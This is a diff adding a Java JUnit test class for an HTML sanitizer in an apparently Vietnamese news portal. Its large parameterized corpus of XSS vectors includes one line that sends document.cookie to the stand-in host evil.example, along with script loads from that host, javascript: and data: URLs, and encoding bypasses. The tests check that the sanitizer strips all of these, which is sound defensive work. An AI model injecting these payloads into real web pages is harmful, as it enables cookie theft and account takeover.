@@ -1,0 +1,385 @@
+package vn.tochuc.portal.platform;
+
+import java.util.Locale;
+import java.util.Set;
+import java.util.regex.Pattern;
+
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.NullAndEmptySource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import org.springframework.web.util.HtmlUtils;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** The article body allow-list: a corpus of known XSS vectors, and the markup a newsroom needs. */
+class RichTextTest {
+
+	/** Tags that must never come out, whatever went in. */
+	private static final Pattern FORBIDDEN_TAG = Pattern.compile(
+			"<\\s*/?\\s*(script|iframe|frame|frameset|object|embed|applet|svg|math|style|link|meta|base|form|input"
+					+ "|button|select|option|textarea|noscript|template|xmp|plaintext|video|audio|source|marquee"
+					+ "|isindex|keygen)\\b",
+			Pattern.CASE_INSENSITIVE);
+
+	/** An event handler or inline style inside any tag. */
+	private static final Pattern HANDLER_OR_STYLE = Pattern.compile("<[^>]*\\s(on[a-z]+|style|formaction|srcdoc|xmlns)\\s*=",
+			Pattern.CASE_INSENSITIVE);
+
+	/** Any attribute (quoted or not) holding a script-capable URL scheme. */
+	private static final Pattern DANGEROUS_URL = Pattern.compile(
+			"<[^>]*\\s[a-z:-]+\\s*=\\s*[\"']?\\s*(javascript|vbscript|livescript|data|jar):", Pattern.CASE_INSENSITIVE);
+
+	/** Every attribute the policy may let through. */
+	private static final Set<String> ALLOWED_ATTRIBUTES = Set.of("href", "title", "src", "alt", "width", "height",
+			"colspan", "rowspan", "scope", "class", "rel");
+
+	private static final Pattern ATTRIBUTE_NAME = Pattern.compile("\\s([a-zA-Z_:][-a-zA-Z0-9_:.]*)\\s*=");
+
+	private static final Pattern TAG = Pattern.compile("<[a-zA-Z][^>]*>");
+
+	static void assertSafe(String input) {
+		String output = RichText.sanitize(input);
+		assertThat(output).as("sanitized %s", input)
+			.doesNotContainPattern(FORBIDDEN_TAG)
+			.doesNotContainPattern(HANDLER_OR_STYLE)
+			.doesNotContainPattern(DANGEROUS_URL);
+		var tags = TAG.matcher(output);
+		while (tags.find()) {
+			var attributes = ATTRIBUTE_NAME.matcher(tags.group());
+			while (attributes.find()) {
+				assertThat(attributes.group(1).toLowerCase(Locale.ROOT)).as("attribute in %s (from %s)", output, input)
+					.isIn(ALLOWED_ATTRIBUTES);
+			}
+		}
+		// Cleaning the stored HTML again (the next edit) never brings anything back.
+		String again = RichText.sanitize(output);
+		assertThat(again).as("re-sanitized %s", output)
+			.doesNotContainPattern(FORBIDDEN_TAG)
+			.doesNotContainPattern(HANDLER_OR_STYLE)
+			.doesNotContainPattern(DANGEROUS_URL);
+	}
+
+	/** The first href of the output, as a browser reads it (entities decoded). */
+	static String hrefOf(String html) {
+		var matcher = Pattern.compile("href=\"([^\"]*)\"").matcher(html);
+		assertThat(matcher.find()).as("an href in %s", html).isTrue();
+		return HtmlUtils.htmlUnescape(matcher.group(1));
+	}
+
+	@Nested
+	class XssCorpus {
+
+		@ParameterizedTest
+		@ValueSource(strings = {
+				"<script>alert(1)</script>",
+				"<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
+				"<script type=\"module\">import('https://evil.example')</script><p>Tin</p>",
+				"<scr<script>ipt>alert(1)</scr</script>ipt>",
+				"<<script>script>alert(1)<</script>/script>",
+				"<script\n>alert(1)</script\n>",
+				"<p>Tin<script>document.location='https://evil.example/?c='+document.cookie</script></p>",
+				"<img src=x onerror=alert(1)>",
+				"<img src=\"/a.png\" onerror=\"alert(1)\">",
+				"<img src=/a.png onerror=alert(1)//>",
+				"<IMG SRC=\"javascript:alert('XSS');\">",
+				"<img src=\"/a.png\" alt=\"x\" onerror=\"alert(1)\"//\">",
+				"<img \"\"\"><script>alert(1)</script>\">",
+				"<img src=\"/a.png\"onerror=\"alert(1)\">",
+				"<img/src=\"/a.png\"/onerror=alert(1)>",
+				"<img src=`javascript:alert(1)`>",
+				"<svg onload=alert(1)>",
+				"<svg><script>alert(1)</script></svg>",
+				"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+				"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+				"<a href=\"javascript:alert(1)\">Xem</a>",
+				"<a href=\"JaVaScRiPt:alert(1)\">Xem</a>",
+				"<a href=\" javascript:alert(1)\">Xem</a>",
+				"<a href=\"jav&#x09;ascript:alert(1)\">Xem</a>",
+				"<a href=\"jav\tascript:alert(1)\">Xem</a>",
+				"<a href=\"jav\nascript:alert(1)\">Xem</a>",
+				"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Xem</a>",
+				"<a href=\"&#x6A;avascript&colon;alert(1)\">Xem</a>",
+				"<a href=\"javascript&#0000058alert(1)\">Xem</a>",
+				"<a href=\"\u0001javascript:alert(1)\">Xem</a>",
+				"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Xem</a>",
+				"<a href=\"DATA:text/html,<script>alert(1)</script>\">Xem</a>",
+				"<a href=\"vbscript:msgbox(1)\">Xem</a>",
+				"<a href=\"livescript:alert(1)\">Xem</a>",
+				"<a href=\"https://example.vn\" onclick=\"alert(1)\" onmouseover=\"alert(2)\">Xem</a>",
+				"<a href=\"https://example.vn\" target=\"_blank\" formaction=\"javascript:alert(1)\">Xem</a>",
+				"<iframe src=\"https://evil.example\"></iframe>",
+				"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+				"<object data=\"https://evil.example/x.swf\"></object>",
+				"<embed src=\"https://evil.example/x.swf\">",
+				"<applet code=\"Evil.class\"></applet>",
+				"<p style=\"background:url(javascript:alert(1))\">Tin</p>",
+				"<div style=\"width: expression(alert(1))\">Tin</div>",
+				"<style>body{background:url(\"javascript:alert(1)\")}</style><p>Tin</p>",
+				"<style>@import 'https://evil.example/x.css';</style>",
+				"<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+				"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+				"<select><option>Chọn</option><img src=x onerror=alert(1)></select>",
+				"<form action=\"https://evil.example\"><input name=\"password\" type=\"password\"><button>Gửi</button></form>",
+				"<input autofocus onfocus=alert(1)>",
+				"<textarea><script>alert(1)</script></textarea>",
+				"<base href=\"https://evil.example/\">",
+				"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+				"<meta charset=\"utf-7\">",
+				"<p onclick=\"alert(1)\">Tin</p>",
+				"<h2 onmouseover=\"alert(1)\">Tiêu đề</h2>",
+				"<table background=\"javascript:alert(1)\"><tr><td onclick=alert(1)>1</td></tr></table>",
+				"<td background=\"javascript:alert(1)\">1</td>",
+				"<p>Chưa đóng <strong>thẻ <em>nào <a href=\"https://example.vn\" onclick=alert(1)>cả",
+				"<p title='\"><script>alert(1)</script>'>Tin</p>",
+				"<a href=\"/bai-viet/x\" title='\"><img src=x onerror=alert(1)>'>Tin</a>",
+				"<a href='https://example.vn/\"onmouseover=\"alert(1)'>Tin</a>",
+				"<img src=\"//evil.example/pixel.png\" alt=\"x\">",
+				"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+				"<div><template><script>alert(1)</script></template></div>",
+				"<xmp><script>alert(1)</script></xmp>",
+				"<video><source onerror=\"alert(1)\"></video>",
+				"<audio src=x onerror=alert(1)>",
+				"<marquee onstart=alert(1)>Tin</marquee>",
+				"<details open ontoggle=alert(1)>",
+				"<body onload=alert(1)>",
+				"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+				"<![CDATA[<script>alert(1)</script>]]>",
+				"<?xml version=\"1.0\"?><script>alert(1)</script>",
+				"<div xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></div>",
+				"<p class=\"align-center\" id=\"x\" data-x=\"1\" onclick=\"alert(1)\">Tin</p>",
+				"<img src=\"https://example.vn/a.png\" srcset=\"javascript:alert(1) 1x\" usemap=\"#m\">",
+				"<a href=\"https://example.vn\" ping=\"https://evil.example\" download>Tin</a>",
+		})
+		void dangerousMarkupIsRemoved(String vector) {
+			assertSafe(vector);
+		}
+
+		@Test
+		void scriptsGoWithTheirContent() {
+			String out = RichText.sanitize("<p>Trước</p><script>alert('xss')</script><p>Sau</p>");
+			assertThat(out).doesNotContain("alert").doesNotContainIgnoringCase("script");
+			assertThat(RichText.toPlainText(out)).isEqualTo("Trước Sau");
+		}
+
+		@Test
+		void stylesGoWithTheirContent() {
+			String out = RichText.sanitize("<style>p{color:red}</style><p>Tin</p>");
+			assertThat(out).doesNotContain("color").isEqualTo("<p>Tin</p>");
+		}
+
+		@Test
+		void aJavascriptLinkKeepsItsTextButLosesTheLink() {
+			String out = RichText.sanitize("<p><a href=\"javascript:alert(1)\">Xem chi tiết</a></p>");
+			assertThat(out).doesNotContain("<a").doesNotContainIgnoringCase("javascript");
+			assertThat(RichText.toPlainText(out)).isEqualTo("Xem chi tiết");
+		}
+
+		@ParameterizedTest
+		@ValueSource(strings = { "javascript:alert(1)", "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)",
+				"jav&#x0A;ascript:alert(1)", "&#106;avascript:alert(1)", "data:text/html,<b>x</b>",
+				"vbscript:msgbox(1)", "//evil.example/x", "///evil.example/x", "\\\\evil.example\\x",
+				"file:///etc/passwd", "ftp://example.vn/x",
+				"tel:0238", "about:blank", "chrome://settings" })
+		void unsafeOrUnexpectedHrefsAreDropped(String href) {
+			String out = RichText.sanitize("<a href=\"" + href + "\">Liên kết</a>");
+			assertThat(out).doesNotContain("href").doesNotContain("<a");
+			assertThat(RichText.toPlainText(out)).isEqualTo("Liên kết");
+		}
+
+		@ParameterizedTest
+		@ValueSource(strings = { "//evil.example/pixel.png", "javascript:alert(1)", "data:image/png;base64,iVBORw0KGgo=",
+				"x", "media/2025/01/a.jpg", "ftp://example.vn/a.png", "file:///etc/passwd" })
+		void unsafeImageSourcesAreDropped(String src) {
+			String out = RichText.sanitize("<img src=\"" + src + "\" alt=\"Ảnh\">");
+			assertThat(out).doesNotContain("src=").doesNotContain("evil").doesNotContainIgnoringCase("javascript");
+		}
+
+		@ParameterizedTest
+		@ValueSource(strings = { "/\\evil.example/x", "/\\/evil.example/x" })
+		void backslashProtocolRelativeUrlsAreDroppedToo(String url) {
+			String out = RichText.sanitize("<a href=\"" + url + "\">Tin</a><img src=\"" + url + "\" alt=\"Ảnh\">");
+			assertThat(out).doesNotContain("evil.example");
+		}
+
+		@Test
+		void spacesAndControlCharactersInsideUrlsAreEncodedNotPassedThrough() {
+			assertThat(hrefOf(RichText.sanitize("<a href=\"https://example.vn/a b\">Tin</a>")))
+				.isEqualTo("https://example.vn/a%20b");
+			assertThat(hrefOf(RichText.sanitize("<a href=\"https://example.vn/\tx\">Tin</a>")))
+				.doesNotContain("\t");
+		}
+
+		@Test
+		void unknownClassesAreDroppedAllowedOnesKept() {
+			assertThat(RichText.sanitize("<p class=\"evil\">Tin</p>")).isEqualTo("<p>Tin</p>");
+			assertThat(RichText.sanitize("<p class=\"align-center\">Tin</p>")).isEqualTo("<p class=\"align-center\">Tin</p>");
+			assertThat(RichText.sanitize("<p class=\"align-center evil\">Tin</p>")).isEqualTo("<p>Tin</p>");
+		}
+
+		@Test
+		void unclosedTagsAreBalanced() {
+			String out = RichText.sanitize("<p>Chưa đóng <strong>thẻ <em>nào");
+			assertThat(out).isEqualTo("<p>Chưa đóng <strong>thẻ <em>nào</em></strong></p>");
+		}
+
+		@Test
+		void strayClosingTagsAndAngleBracketsInTextAreHarmless() {
+			String out = RichText.sanitize("</div></p>1 < 2 && 3 > 2 <p>Tin</p>");
+			assertThat(out).doesNotContain("</div>").contains("&lt;").contains("<p>Tin</p>");
+			assertThat(RichText.toPlainText(out)).isEqualTo("1 < 2 && 3 > 2 Tin");
+		}
+
+		@Test
+		void externalTargetIsDroppedAndLinksStillGetNoopener() {
+			String out = RichText.sanitize("<a href=\"https://example.vn\" target=\"_blank\" rel=\"opener\">Tin</a>");
+			assertThat(out).doesNotContain("target").doesNotContain("\"opener\"").contains("noopener").contains("noreferrer");
+		}
+
+	}
+
+	@Nested
+	class NewsMarkup {
+
+		@Test
+		void paragraphsHeadingsAndEmphasisAreKept() {
+			String html = "<h2>Kết quả Đại hội</h2><p>Đại hội đã bầu <strong>53</strong> đồng chí vào "
+					+ "<em>Ban Chấp hành</em>.</p><h3>Chương trình hành động</h3><p>Nội dung <b>đậm</b>, <i>nghiêng</i>, "
+					+ "<u>gạch chân</u>, <s>gạch ngang</s>, H<sub>2</sub>O, m<sup>2</sup>.</p>";
+			assertThat(RichText.sanitize(html)).isEqualTo(html);
+		}
+
+		@Test
+		void listsAndQuotesAreKept() {
+			String html = "<ul><li>Công tác tổ chức</li><li>Công tác cán bộ</li></ul>"
+					+ "<ol><li>Thứ nhất</li><li>Thứ hai</li></ol>"
+					+ "<blockquote><p>Cán bộ là cái gốc của mọi công việc.</p></blockquote>";
+			assertThat(RichText.sanitize(html)).isEqualTo(html);
+		}
+
+		@Test
+		void httpsLinksGetNoopenerNoreferrer() {
+			String out = RichText.sanitize("<p><a href=\"https://dangcongsan.vn/tin-tuc\">Báo Điện tử Đảng Cộng sản</a></p>");
+			assertThat(out).contains("href=\"https://dangcongsan.vn/tin-tuc\"")
+				.containsPattern("rel=\"noopener noreferrer\"|rel=\"noreferrer noopener\"")
+				.contains(">Báo Điện tử Đảng Cộng sản</a>");
+		}
+
+		@Test
+		void relativeAndAnchorLinksAreKept() {
+			assertThat(hrefOf(RichText.sanitize("<a href=\"/bai-viet/hoi-nghi-truc-tuyen\">Xem</a>")))
+				.isEqualTo("/bai-viet/hoi-nghi-truc-tuyen");
+			// "=" may come out as an entity; the address a browser reads is the same.
+			assertThat(hrefOf(RichText.sanitize("<a href=\"/chuyen-muc/tin-tuc?page=2\">Xem</a>")))
+				.isEqualTo("/chuyen-muc/tin-tuc?page=2");
+			assertThat(hrefOf(RichText.sanitize("<a href=\"#muc-2\">Mục 2</a>"))).isEqualTo("#muc-2");
+		}
+
+		@Test
+		void mailtoLinksAreKept() {
+			String out = RichText.sanitize("<a href=\"mailto:bantochuc@nghean.dcs.vn\">Gửi thư</a>");
+			assertThat(out).contains("<a href=\"mailto:").contains(">Gửi thư</a>");
+			// The sanitizer may encode "@"; the address a browser reads is the same.
+			assertThat(hrefOf(out)).isEqualTo("mailto:bantochuc@nghean.dcs.vn");
+		}
+
+		@Test
+		void imagesKeepSourceAltAndSize() {
+			String out = RichText.sanitize(
+					"<img src=\"/media/2025/03/0b8f2c3e-1d2a-4c5b-9e7f-0123456789ab.jpg\" alt=\"Quang cảnh hội nghị\" "
+							+ "width=\"800\" height=\"533\" title=\"Hội nghị\">");
+			assertThat(out).contains("src=\"/media/2025/03/0b8f2c3e-1d2a-4c5b-9e7f-0123456789ab.jpg\"")
+				.contains("alt=\"Quang cảnh hội nghị\"")
+				.contains("width=\"800\"")
+				.contains("height=\"533\"")
+				.contains("title=\"Hội nghị\"");
+			assertThat(RichText.sanitize("<img src=\"https://example.vn/a.png\" alt=\"\">")).contains("src=\"https://example.vn/a.png\"");
+		}
+
+		@Test
+		void imageSizesMustBePlainNumbers() {
+			String out = RichText.sanitize("<img src=\"/a.png\" alt=\"a\" width=\"100%\" height=\"1e9\">");
+			assertThat(out).contains("src=\"/a.png\"").doesNotContain("width").doesNotContain("height");
+		}
+
+		@Test
+		void figuresWithCaptionsAreKept() {
+			String html = "<figure class=\"image\"><img src=\"/media/2025/03/a.jpg\" alt=\"Đại biểu biểu quyết\">"
+					+ "<figcaption>Các đại biểu biểu quyết thông qua Nghị quyết.</figcaption></figure>";
+			String out = RichText.sanitize(html);
+			assertThat(out).startsWith("<figure class=\"image\"><img ").contains("<figcaption>Các đại biểu biểu quyết thông qua Nghị quyết.</figcaption></figure>");
+			assertThat(RichText.toPlainText(out)).isEqualTo(RichText.toPlainText(html));
+		}
+
+		@Test
+		void tablesAreKept() {
+			String html = "<table class=\"table\"><caption>Kết quả tinh giản biên chế</caption>"
+					+ "<thead><tr><th scope=\"col\">Đơn vị</th><th scope=\"col\">Số người</th></tr></thead>"
+					+ "<tbody><tr><td>Sở Nội vụ</td><td>12</td></tr><tr><td colspan=\"2\">Tổng cộng: 12</td></tr></tbody>"
+					+ "</table>";
+			assertThat(RichText.sanitize(html)).isEqualTo(html);
+		}
+
+		@Test
+		void vietnameseTextReadsTheSameAfterSanitizing() {
+			String html = "<p>Sáng 15/3, Ban Tổ chức Tỉnh ủy Nghệ An tổ chức Hội nghị trực tuyến quán triệt "
+					+ "Nghị quyết số 18-NQ/TW “một số vấn đề về tiếp tục đổi mới, sắp xếp tổ chức bộ máy” — "
+					+ "với sự tham dự của 1.250 đại biểu (chiếm 98,5%). Đồng chí Thường trực Tỉnh ủy phát biểu: "
+					+ "'Cán bộ là cái gốc' & \"gương mẫu\" là trên hết.</p>";
+			String out = RichText.sanitize(html);
+			assertThat(RichText.toPlainText(out)).isEqualTo(RichText.toPlainText(html));
+			// Vietnamese letters are written as they are, not as entities.
+			assertThat(out).contains("Ban Tổ chức Tỉnh ủy Nghệ An", "đổi mới, sắp xếp", "Đồng chí Thường trực");
+		}
+
+		@Test
+		void aWholeArticleBodySurvivesIntact() {
+			String html = """
+					<p class="align-center"><strong>Đảng bộ tỉnh Nghệ An</strong></p>
+					<h2>I. Kết quả</h2>
+					<p>Toàn tỉnh đã sắp xếp <a href="/bai-viet/sap-xep-bo-may">bộ máy</a> theo Kết luận 126-KL/TW.</p>
+					<ul><li>Giảm 12 đầu mối</li><li>Tinh giản 6.666 biên chế</li></ul>
+					<blockquote><p>Tinh – Gọn – Mạnh – Hiệu năng – Hiệu lực – Hiệu quả</p></blockquote>
+					<hr>
+					<p>Liên hệ: <a href="mailto:bantochuc@nghean.dcs.vn">bantochuc@nghean.dcs.vn</a></p>""";
+			String out = RichText.sanitize(html);
+			assertThat(RichText.toPlainText(out)).isEqualTo(RichText.toPlainText(html));
+			assertThat(out).contains("<h2>I. Kết quả</h2>", "<ul><li>Giảm 12 đầu mối</li>", "<blockquote>",
+					"href=\"/bai-viet/sap-xep-bo-may\"", "<p class=\"align-center\"><strong>");
+		}
+
+	}
+
+	@Nested
+	class Edges {
+
+		@ParameterizedTest
+		@NullAndEmptySource
+		@ValueSource(strings = { "   ", "\n\t" })
+		void nothingBecomesEmpty(String html) {
+			assertThat(RichText.sanitize(html)).isEmpty();
+		}
+
+		@Test
+		void plainTextIsEscapedNotInterpreted() {
+			assertThat(RichText.sanitize("Tin <b>đậm</b> & 1 < 2")).isEqualTo("Tin <b>đậm</b> &amp; 1 &lt; 2");
+		}
+
+		@Test
+		void resultIsStripped() {
+			assertThat(RichText.sanitize("  \n<p>Tin</p>\n  ")).isEqualTo("<p>Tin</p>");
+		}
+
+		@Test
+		void plainTextRemovesTagsAndDecodesEntities() {
+			assertThat(RichText.toPlainText("<p>Hội&nbsp;nghị &amp; <strong>Đại hội</strong></p>\n<p>Tin&#39;s</p>"))
+				.isEqualTo("Hội\u00A0nghị & Đại hội Tin's");
+			assertThat(RichText.toPlainText(null)).isEmpty();
+			assertThat(RichText.toPlainText("")).isEmpty();
+		}
+
+	}
+
+}
